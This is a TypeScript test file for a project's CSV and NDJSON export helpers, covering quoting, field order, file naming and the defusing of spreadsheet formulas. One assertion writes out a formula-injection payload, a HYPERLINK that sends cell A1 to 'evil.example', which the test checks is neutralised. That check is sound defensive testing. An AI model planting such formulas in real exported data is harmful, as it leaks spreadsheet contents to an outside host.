import { describe, expect, it } from 'bun:test';
import { blankEvent, EVENT_FIELDS } from '../ingest/event.ts';
import { csvField, csvLine, exportFilename, ndjsonLine } from './event-lines.ts';

describe('export lines', () => {
  it('quotes CSV fields only when RFC 4180 needs it and keeps null apart from the empty string', () => {
    expect(csvField(null)).toBe('');
    expect(csvField('')).toBe('""');
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(404)).toBe('404');
    expect(csvField({ a: [1, 'x,y'] })).toBe('"{""a"":[1,""x,y""]}"');
    // Formulas are defused for spreadsheets: a leading ' makes them plain text.
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    for (const s of ['+1', '-2+3', '@SUM(A1)', '\tx']) expect(csvField(s)).toBe(`'${s}`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('\n=1+1')).toBe(`"'\n=1+1"`);
    expect(csvField(' =1+1')).toBe(`' =1+1`);
    expect(csvField('  @SUM(A1)')).toBe(`'  @SUM(A1)`);
    expect(csvField(' plain')).toBe(' plain');
    expect(csvField('a=b')).toBe('a=b');
  });

  it('writes every field in EVENT_FIELDS order whatever order the event object has', () => {
    const e = blankEvent('id1', '2026-01-01T00:00:00.000Z', 'pixel', 'pixel');
    const shuffled = Object.fromEntries(Object.entries(e).reverse()) as typeof e;
    expect(Object.keys(JSON.parse(ndjsonLine(shuffled)))).toEqual([...EVENT_FIELDS]);
    expect(csvLine(shuffled)).toBe('id1,2026-01-01T00:00:00.000Z,pixel,pixel' + ','.repeat(EVENT_FIELDS.length - 4) + '\r\n');
  });

  it('names the file after what and when', () => {
    expect(exportFilename('pixel', 'p1', 'csv')).toBe('footfall-pixel-p1.csv');
    expect(exportFilename('website', 'w1', 'ndjson', Date.UTC(2026, 0, 2), undefined)).toBe('footfall-website-w1-20260102_now.ndjson');
  });
});
